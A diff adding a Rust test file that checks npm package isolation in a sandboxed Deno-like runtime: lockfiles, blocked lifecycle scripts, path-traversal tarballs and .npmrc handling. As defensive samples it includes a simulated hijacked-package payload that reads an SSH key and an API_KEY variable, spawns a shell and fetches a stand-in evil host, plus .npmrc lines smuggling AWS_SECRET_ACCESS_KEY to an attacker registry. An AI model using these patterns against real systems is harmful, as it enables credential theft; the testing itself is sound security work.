@@ -1,0 +1,551 @@
+// SPDX-License-Identifier: MIT
+//! Packages of npm: resolved and downloaded outside of the program, read inside, never written.
+
+use serde_json::json;
+
+use super::registry::Registry;
+use super::{with_cache, with_registry};
+use crate::support::{Project, Victim, superuser};
+use crate::support_life::scrub;
+
+/// A registry with one package that depends on another.
+fn two_packages() -> Registry {
+    let mut registry = Registry::new();
+    registry
+        .package(
+            "inner",
+            "1.2.0",
+            json!({"main": "index.js"}),
+            &[("index.js", "module.exports = text => `<${text}>`;")],
+        )
+        .package(
+            "outer",
+            "2.0.0",
+            json!({"main": "index.js", "dependencies": {"inner": "^1.0.0"}}),
+            &[("index.js", "module.exports = require('inner')('hello');")],
+        );
+    registry
+}
+
+fn program() -> Project {
+    Project::new()
+        .file("deno.json", r#"{"imports": {"outer": "npm:outer@2"}}"#)
+        .file(
+            "main.ts",
+            "import text from 'outer'; console.log(text as string);",
+        )
+}
+
+#[test]
+fn packages_come_before_the_start_and_once() {
+    let (project, registry) = (program(), two_packages());
+    let first = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    first.expect_output("<hello>\n");
+    first.expect_error("Download ");
+    let asked = registry.said().len();
+    assert!(asked >= 4, "{:?}", registry.said());
+    assert!(!project.has("node_modules"));
+    let lock = project.read("deno.lock");
+    assert!(lock.contains("outer@2.0.0") && lock.contains("inner@1.2.0"));
+    // Nothing is asked for again, neither by this program nor by another.
+    let again = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    again.expect_output("<hello>\n");
+    again.expect_nowhere("Download ");
+    project.write("other.ts", "import 'npm:outer@2'; console.log('other');");
+    with_registry(&project, &registry, &["run", "--cached-only", "other.ts"])
+        .run()
+        .expect_output("other\n");
+    assert_eq!(registry.said().len(), asked);
+}
+
+#[test]
+fn package_json_names_packages_as_well() {
+    let registry = two_packages();
+    let project = Project::new()
+        .file("package.json", r#"{"dependencies": {"outer": "2"}}"#)
+        .file("main.mjs", "import text from 'outer'; console.log(text);");
+    with_registry(&project, &registry, &["run", "main.mjs"])
+        .run()
+        .expect_output("<hello>\n");
+    assert!(!project.has("node_modules"));
+}
+
+#[test]
+fn a_package_is_an_entry_too() {
+    let mut registry = Registry::new();
+    registry.package(
+        "tool",
+        "1.0.0",
+        json!({"bin": {"tool": "tool.js"}}),
+        &[(
+            "tool.js",
+            "console.log('tool', process.argv.slice(2).join());",
+        )],
+    );
+    let project = Project::new();
+    with_registry(&project, &registry, &["run", "npm:tool@1", "a", "b"])
+        .run()
+        .expect_output("tool a,b\n");
+}
+
+#[test]
+fn installed_packages_are_used_as_they_are() {
+    let registry = Registry::new();
+    let project = Project::new()
+        .file("package.json", r#"{"dependencies": {"own": "1"}}"#)
+        .file(
+            "node_modules/own/package.json",
+            r#"{"name":"own","version":"1.0.0","main":"i.js"}"#,
+        )
+        .file("node_modules/own/i.js", "module.exports = 'installed';")
+        .file("main.mjs", "import text from 'own'; console.log(text);");
+    with_registry(&project, &registry, &["run", "main.mjs"])
+        .run()
+        .expect_output("installed\n");
+    assert_eq!(registry.said().len(), 0);
+}
+
+#[test]
+fn lifecycle_scripts_never_run() {
+    let mut registry = Registry::new();
+    let project = Project::new().file("main.ts", "import 'npm:scripted@1'; console.log('ran');");
+    let mark = project.path("mark");
+    let script = format!("touch {mark}");
+    registry.package(
+        "scripted",
+        "1.0.0",
+        json!({"scripts": {"preinstall": script, "install": script, "postinstall": script}}),
+        &[("index.js", "")],
+    );
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_output("ran\n");
+    assert!(!project.has("mark"));
+    // The script would have made it.
+    let made = project.launch("/bin/sh".as_ref(), &["-c", &script]).run();
+    made.expect_success();
+    assert!(project.has("mark"));
+}
+
+/// What a dependency that was taken over tries when it is imported.
+const THEFT: &str = r"
+const tried = [];
+const attempt = async (name, act) => {
+  try { await act(); tried.push(name); } catch { /* the next one */ }
+};
+await attempt('environment', () => { if (!process.env.API_KEY) throw 1; });
+await attempt('key file', () => Deno.readTextFileSync(SECRET));
+await attempt('shell', () => new Deno.Command('/bin/sh', { args: ['-c', 'true'] }).outputSync());
+await attempt('start-up file', () => Deno.writeTextFileSync(SECRET + '.planted', 'x'));
+await attempt('network', async () => { await (await fetch(EVIL)).text(); });
+export default tried.sort().join(',');
+";
+
+#[test]
+fn a_package_that_was_taken_over_gets_nothing() {
+    let (mut registry, mut evil) = (Registry::new(), Registry::new());
+    evil.file("/take", "taken");
+    let project = Project::new()
+        .file("home/.ssh/id_ed25519", "private key")
+        .file(
+            "main.ts",
+            "import got from 'npm:parser@1'; console.log('got:', got);",
+        );
+    let theft = THEFT
+        .replace(
+            "SECRET",
+            &format!("'{}'", project.path("home/.ssh/id_ed25519")),
+        )
+        .replace("EVIL", &format!("'{}take'", evil.url()));
+    registry.package(
+        "parser",
+        "1.0.1",
+        json!({"type": "module", "main": "index.js", "scripts": {"preinstall": "exit 1"}}),
+        &[("index.js", &theft)],
+    );
+    let run = |flags: &[&str]| {
+        let mut words = vec!["run"];
+        words.extend(flags);
+        words.push("main.ts");
+        let outcome = with_registry(&project, &registry, &words)
+            .env("API_KEY", "hidden-value")
+            .run();
+        outcome.expect_success();
+        outcome.stdout
+    };
+    assert_eq!(run(&[]), "got: \n");
+    assert!(evil.said().is_empty());
+    assert!(!project.has("home/.ssh/id_ed25519.planted"));
+    // Each grant opens what it names.
+    let net = format!("--allow-net={}", evil.host());
+    assert_eq!(run(&[&net]), "got: network\n");
+    assert_eq!(evil.said().len(), 1);
+    assert_eq!(run(&["--allow-env=API_KEY"]), "got: environment\n");
+    assert_eq!(run(&["--allow-read=home"]), "got: key file\n");
+    assert_eq!(run(&["--allow-run=/bin/sh"]), "got: shell\n");
+    assert_eq!(run(&["--allow-write=home"]), "got: start-up file\n");
+    assert!(project.has("home/.ssh/id_ed25519.planted"));
+}
+
+#[test]
+fn a_tarball_writes_nothing_outside_of_its_package() {
+    let mut registry = Registry::new();
+    let project = Project::new().file("main.ts", "import 'npm:climber@1'; console.log('ran');");
+    let absolute = project.path("absolute");
+    registry.package_with(
+        "climber",
+        "1.0.0",
+        json!({}),
+        &[("index.js", "")],
+        &[
+            ("package/../../../../../../planted", "x"),
+            ("../../../../../planted", "x"),
+            (&absolute, "x"),
+        ],
+    );
+    let outcome = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    assert!([Some(0), Some(1)].contains(&outcome.code), "{outcome:?}");
+    let planted = find(&project, "planted");
+    assert!(planted.is_empty(), "{planted:?}");
+    assert!(!project.has("absolute"));
+    // Without the odd names the same package is fine.
+    registry.package("climber", "1.0.1", json!({}), &[("index.js", "")]);
+    project.write("main.ts", "import 'npm:climber@1.0.1'; console.log('ran');");
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_output("ran\n");
+}
+
+/// Files of this name below the project that are not inside of a package.
+fn find(project: &Project, name: &str) -> Vec<std::path::PathBuf> {
+    let mut open = vec![project.directory().to_path_buf()];
+    let mut found = Vec::new();
+    while let Some(directory) = open.pop() {
+        for entry in std::fs::read_dir(directory).into_iter().flatten().flatten() {
+            let path = entry.path();
+            let inside = path.components().any(|part| part.as_os_str() == "1.0.0");
+            if entry.file_type().unwrap().is_dir() {
+                open.push(path);
+            } else if entry.file_name() == name && !inside {
+                found.push(path);
+            }
+        }
+    }
+    found
+}
+
+#[test]
+fn downloads_are_not_written_by_the_program() {
+    let (project, registry) = (program(), two_packages());
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_success();
+    let package = find_file(&project, "outer", "index.js");
+    let script = format!(
+        "const path = '{package}';
+         const results: string[] = [];
+         for (const act of [
+           () => Deno.writeTextFileSync(path, 'poison'),
+           () => Deno.removeSync(path),
+           () => Deno.linkSync(path, 'out/link.js'),
+           () => Deno.renameSync(path, 'out/moved.js'),
+         ]) {{
+           try {{ act(); results.push('done'); }} catch (error) {{ results.push((error as Error).name); }}
+         }}
+         console.log(results.join());"
+    );
+    project.write("poison.ts", &format!("import 'outer';\n{script}"));
+    project.write("out/keep", "");
+    let before = std::fs::read_to_string(&package).unwrap();
+    let denied = with_registry(
+        &project,
+        &registry,
+        &["run", "--allow-read", "--allow-write=out", "poison.ts"],
+    )
+    .run();
+    denied.expect_output("NotCapable,NotCapable,NotCapable,NotCapable\n");
+    assert_eq!(std::fs::read_to_string(&package).unwrap(), before);
+    // The kernel's part: the same by native code, which Deno does not judge.
+    let probe = [
+        format!("open:1:{package}"),
+        format!("open:1:{}", project.path("out/keep")),
+    ];
+    let answers = project.probe(&["--allow-read", "--allow-write=out"], &probe);
+    crate::support::expect_errno(&answers, &probe[0], &[libc::EACCES]);
+    crate::support::expect_errno(&answers, &probe[1], &[0]);
+    assert_eq!(std::fs::read_to_string(&package).unwrap(), before);
+}
+
+/// A file of a package in the cache of the project.
+fn find_file(project: &Project, package: &str, file: &str) -> String {
+    let mut open = vec![project.directory().join(".stockade-cache/downloads")];
+    while let Some(directory) = open.pop() {
+        for entry in std::fs::read_dir(directory).unwrap().flatten() {
+            let path = entry.path();
+            if path.is_dir() {
+                open.push(path);
+            } else if path.ends_with(file) && path.to_str().unwrap().contains(package) {
+                return path.to_str().unwrap().to_owned();
+            }
+        }
+    }
+    panic!("{package} has no {file}");
+}
+
+#[test]
+fn the_lock_holds_contents_and_versions() {
+    let (project, mut registry) = (program(), two_packages());
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_success();
+    let lock = project.read("deno.lock");
+    // Other contents under the same version, as seen by somebody without a cache.
+    registry.package(
+        "outer",
+        "2.0.0",
+        json!({"main": "index.js"}),
+        &[("index.js", "module.exports = 'replaced';")],
+    );
+    std::fs::remove_dir_all(project.path(".stockade-cache")).unwrap();
+    let tampered = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    tampered.expect_code(1).expect_nowhere("replaced");
+    tampered.expect_error("checksum did not match");
+    assert_eq!(project.read("deno.lock"), lock);
+    // A newer version is taken only when the lock may change.
+    let mut registry = two_packages();
+    project.write(
+        "deno.json",
+        r#"{"imports": {"outer": "npm:outer@2", "inner": "npm:inner@1"}}"#,
+    );
+    project.write(
+        "main.ts",
+        "import 'inner'; import text from 'outer'; console.log(text as string);",
+    );
+    registry.package(
+        "inner",
+        "1.9.0",
+        json!({}),
+        &[("index.js", "module.exports = () => 'new';")],
+    );
+    let frozen = with_registry(&project, &registry, &["run", "--frozen", "main.ts"]).run();
+    frozen
+        .expect_code(1)
+        .expect_error("lockfile is out of date");
+    assert_eq!(project.read("deno.lock"), lock);
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_success();
+    assert_ne!(project.read("deno.lock"), lock);
+    let without = with_registry(&project, &registry, &["run", "--no-lock", "main.ts"]).run();
+    without.expect_success();
+}
+
+#[test]
+fn locks_that_are_none_and_projects_that_cannot_be_written() {
+    let (project, registry) = (program(), two_packages());
+    project.write("deno.lock", "not a lock");
+    let outcome = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    outcome.expect_refused();
+    insta::assert_snapshot!(scrub(&project, &outcome.stderr), @r"
+    error: the lock file `[DIR]/deno.lock` is no lock file
+    hint: remove it to have it made anew, or run with `--no-lock`
+    ");
+    std::fs::remove_file(project.path("deno.lock")).unwrap();
+    if superuser() {
+        return;
+    }
+    use std::os::unix::fs::PermissionsExt;
+    let mode = |mode| std::fs::Permissions::from_mode(mode);
+    with_registry(&project, &registry, &["run", "--no-lock", "main.ts"])
+        .run()
+        .expect_success();
+    std::fs::set_permissions(project.directory(), mode(0o555)).unwrap();
+    let outcome = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    std::fs::set_permissions(project.directory(), mode(0o755)).unwrap();
+    outcome
+        .expect_output("<hello>\n")
+        .expect_error("cannot write `");
+}
+
+#[test]
+fn a_projects_npmrc_sends_nothing() {
+    let (project, registry) = (program(), two_packages());
+    let evil = Registry::new();
+    for line in [
+        format!("registry={}${{AWS_SECRET_ACCESS_KEY}}/", evil.url()),
+        format!(
+            "//{}/:_authToken=${{AWS_SECRET_ACCESS_KEY}}",
+            registry.host()
+        ),
+        format!("registry={}", evil.url()),
+    ] {
+        project.write(".npmrc", &line);
+        let outcome = with_registry(&project, &registry, &["run", "main.ts"])
+            .env("AWS_SECRET_ACCESS_KEY", "hidden-value")
+            .run();
+        outcome.expect_refused().expect_error(
+            "[DIR]/.npmrc:1:"
+                .replace("[DIR]", project.path("").trim_end_matches('/'))
+                .as_str(),
+        );
+    }
+    assert!(evil.said().is_empty());
+    // A line of the user's own is followed, and so is a host the user allows.
+    std::fs::remove_file(project.path(".npmrc")).unwrap();
+    let token = format!("//{}/:_authToken=${{TOKEN}}", registry.host());
+    project.write("home/.npmrc", &token);
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .env("TOKEN", "known-value")
+        .run()
+        .expect_output("<hello>\n");
+    assert!(
+        registry
+            .said()
+            .iter()
+            .any(|head| head.contains("known-value"))
+    );
+    let other = two_packages();
+    project.write(".npmrc", &format!("registry={}", other.url()));
+    project.write(
+        "main.ts",
+        "import text from 'npm:outer@2.0.0'; console.log(text as string);",
+    );
+    let allowed = format!("--allow-import={}", other.host());
+    with_cache(&project, &["run", &allowed, "main.ts"])
+        .run()
+        .expect_output("<hello>\n");
+    assert!(!other.said().is_empty());
+}
+
+#[test]
+fn a_projects_npmrc_with_a_secret_needs_a_grant() {
+    let project = Project::new()
+        .file("deno.json", "{}")
+        .file("main.ts", "console.log('ran');")
+        .file(".npmrc", "//registry.test/:_authToken=secret");
+    let outcome = with_cache(&project, &["run", "main.ts"]).run();
+    outcome.expect_refused();
+    insta::assert_snapshot!(scrub(&project, &outcome.stderr), @r"
+    error: [DIR]/.npmrc:1: `//registry.test/:_authToken` is a secret that the program could read
+    hint: move the line into the `.npmrc` of your home directory, which the program does not read, or grant the file: `--allow-read=[DIR]/.npmrc`
+    ");
+    with_cache(&project, &["run", "--allow-read=.npmrc", "main.ts"])
+        .run()
+        .expect_output("ran\n");
+    project.write(".npmrc", "fund=false");
+    with_cache(&project, &["run", "main.ts"])
+        .run()
+        .expect_output("ran\n");
+}
+
+#[test]
+fn packages_that_ask_for_many_variables_run() {
+    let mut registry = Registry::new();
+    registry.package(
+        "colours",
+        "1.0.0",
+        json!({"main": "index.js"}),
+        &[(
+            "index.js",
+            "const { env } = process; \
+             module.exports = ['FORCE_COLOR', 'TEAMCITY_VERSION', 'GIVEN'].map(name => `${name}=${env[name]}`).join();",
+        )],
+    );
+    let project = Project::new().file(
+        "main.ts",
+        "import text from 'npm:colours@1'; console.log(text as string);",
+    );
+    let run = |flags: &[&str]| {
+        let mut words = vec!["run"];
+        words.extend(flags);
+        words.push("main.ts");
+        with_registry(&project, &registry, &words)
+            .env("GIVEN", "value")
+            .env("TEAMCITY_VERSION", "hidden-value")
+            .run()
+    };
+    run(&["--allow-env=GIVEN"])
+        .expect_code(1)
+        .expect_error("Requires env access to");
+    let missing = run(&["--allow-env=GIVEN", "--env-missing=undefined"]);
+    missing.expect_output("FORCE_COLOR=undefined,TEAMCITY_VERSION=undefined,GIVEN=value\n");
+    run(&["--allow-env"])
+        .expect_error("")
+        .expect_output("FORCE_COLOR=undefined,TEAMCITY_VERSION=hidden-value,GIVEN=value\n");
+}
+
+#[test]
+fn what_is_not_there_is_said_as_deno_says_it() {
+    let (project, registry) = (program(), two_packages());
+    project.write("main.ts", "import 'npm:nowhere@1';");
+    let outcome = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    outcome
+        .expect_code(1)
+        .expect_error("npm package 'nowhere' does not exist");
+    project.write("main.ts", "import 'npm:outer@77';");
+    let outcome = with_registry(&project, &registry, &["run", "main.ts"]).run();
+    outcome.expect_code(1).expect_error("'outer' matching '77'");
+    // A registry that is away.
+    let away = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/", away.local_addr().unwrap());
+    drop(away);
+    project.write("main.ts", "import 'npm:somewhere@1';");
+    let outcome = with_cache(&project, &["run", "main.ts"])
+        .env("NPM_CONFIG_REGISTRY", &url)
+        .run();
+    outcome.expect_code(1).expect_error(&url);
+    // Nothing of it is trusted later.
+    project.write(
+        "main.ts",
+        "import text from 'outer'; console.log(text as string);",
+    );
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_output("<hello>\n");
+}
+
+#[test]
+fn two_first_runs_prepare_at_once() {
+    let (project, registry) = (program(), two_packages());
+    let outcomes: Vec<_> = std::thread::scope(|scope| {
+        let runs: Vec<_> = (0..4)
+            .map(|_| scope.spawn(|| with_registry(&project, &registry, &["run", "main.ts"]).run()))
+            .collect();
+        runs.into_iter().map(|run| run.join().unwrap()).collect()
+    });
+    for outcome in outcomes {
+        outcome.expect_output("<hello>\n");
+    }
+}
+
+#[test]
+fn a_damaged_download_is_not_trusted() {
+    let (project, registry) = (program(), two_packages());
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_success();
+    let file = find_file(&project, "outer", "index.js");
+    std::fs::remove_dir_all(std::path::Path::new(&file).parent().unwrap()).unwrap();
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .run()
+        .expect_output("<hello>\n");
+}
+
+#[test]
+fn a_key_on_the_way_stays_unread() {
+    // Prepare itself is confined: a victim's memory and files are out of its reach as well, and its
+    // environment has nothing of the caller's.
+    let (project, registry) = (program(), two_packages());
+    let mut victim = Victim::start("hidden-value");
+    with_registry(&project, &registry, &["run", "main.ts"])
+        .env("API_KEY", "hidden-value")
+        .run()
+        .expect_output("<hello>\n");
+    assert!(victim.alive());
+    assert!(
+        registry
+            .said()
+            .iter()
+            .all(|head| !head.contains("hidden-value"))
+    );
+}
